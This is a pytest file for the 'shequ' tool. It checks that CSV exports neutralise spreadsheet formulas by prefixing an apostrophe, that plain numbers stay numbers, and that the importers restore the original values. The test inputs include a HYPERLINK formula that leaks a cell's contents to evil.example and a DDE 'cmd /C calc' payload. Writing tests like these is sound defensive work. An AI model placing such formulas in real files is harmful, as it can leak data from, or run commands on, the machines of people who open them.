"""CSV made for Excel/WPS never carries a live formula (OWASP: a leading ' ), plain numbers stay
numbers, and shequ's own CSV importers read back exactly what its exporters wrote."""

from __future__ import annotations

import csv
import io
import json

import pytest

HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"


@pytest.mark.parametrize(
    "value,written",
    [
        ("=1+1", "'=1+1"),
        ("+86 138 1234 5678", "'+86 138 1234 5678"),
        ("-1+2", "'-1+2"),  # a formula, though it starts like a number
        ("-", "'-"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # already quoted by hand: one more, so the round trip is exact
        ("-12.50", "-12.50"),  # plain numbers stay numbers (ledger amounts, balances)
        ("+3", "+3"),
        ("-5%", "-5%"),
        ("-.5", "-.5"),
        ("12", "12"),
        ("'quoted'", "'quoted'"),
        ("曾国藩", "曾国藩"),
        ("", ""),
    ],
)
def test_escape_rule_and_its_reverse(value, written):
    from shequ.common.output import escape_formula, unescape_formula

    assert escape_formula(value) == written
    assert unescape_formula(written) == value


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_listing_and_export_neutralise_formulas_but_keep_numbers(run, tmp_path):
    run("record", "add", "demo.item", "--field", f"title={HOSTILE}", "--field", "n=-3", "--field", "amount=-12.50",
        "--field", "tags=@甲,乙")
    listed = _csv(run("record", "list", "demo.item", "-f", "csv").stdout)
    head, row = listed
    cell = dict(zip(head, row))
    assert cell["标题"] == "'" + HOSTILE
    assert cell["数量"] == "-3" and cell["金额"] == "-12.50"  # numbers, not text
    assert cell["标签"] == "'@甲、乙"
    target = tmp_path / "示例.csv"
    run("record", "export", "demo.item", str(target))
    exported = dict(zip(*_csv(target.read_text("utf-8"))))
    assert exported["标题"] == "'" + HOSTILE and exported["金额"] == "-12.50"
    # Round trip: shequ's importer takes the ' off again.
    other = tmp_path / "other"
    run("--home", str(other), "init")
    run("--home", str(other), "record", "import", "demo.item", str(target))
    (back,) = json.loads(run("--home", str(other), "record", "list", "demo.item", "--json").stdout)
    assert back["title"] == HOSTILE and back["n"] == -3 and back["amount"] == "-12.50" and back["tags"] == ["@甲", "乙"]


def test_rejected_rows_file_is_neutralised_and_reads_back(run, tmp_path):
    src = tmp_path / "in.csv"
    src.write_text("标题,数量\n=1+1,不是数字\n好,1\n", "utf-8")
    run("record", "import", "demo.item", str(src), "--skip-invalid")
    rejected = tmp_path / "in.csv.rejected.csv"
    head, row = _csv(rejected.read_text("utf-8"))
    assert dict(zip(head, row))["标题"] == "'=1+1"
    from shequ.common.tabular import read_table

    ((_, values),) = read_table(rejected).rows
    assert values["标题"] == "=1+1" and values["数量"] == "不是数字"


def test_ledger_csv_keeps_amounts_and_its_memos_round_trip(run, tmp_path, monkeypatch):
    monkeypatch.setenv("SHEQU_TODAY", "2025-12-31")
    run("ledger", "add", "--date", "2025-03-01", "--amount", "12.50", "--out", "--account", "支出:活动",
        "--memo", "=cmd|' /C calc'!A0", "--voucher", "-7")
    target = tmp_path / "明细.csv"
    run("ledger", "export", str(target), "--period", "2025")
    cell = dict(zip(*_csv(target.read_text("utf-8"))))
    assert cell["摘要"] == "'=cmd|' /C calc'!A0" and cell["金额"] == "12.50" and cell["凭证号"] == "-7"
    balance = _csv(run("ledger", "balance", "-f", "csv").stdout)
    assert ["资产:银行", "资产", "-12.50"] in balance  # a negative balance stays a number
    # The export read back into the same home is recognised as already there (same memo).
    assert "跳过重复 1 笔" in run("ledger", "import", str(target)).stderr
    other = tmp_path / "other"
    run("--home", str(other), "init")
    run("--home", str(other), "ledger", "import", str(target))
    (entry,) = json.loads(run("--home", str(other), "ledger", "list", "--json").stdout)
    assert entry["memo"] == "=cmd|' /C calc'!A0" and entry["amount"] == "12.50"
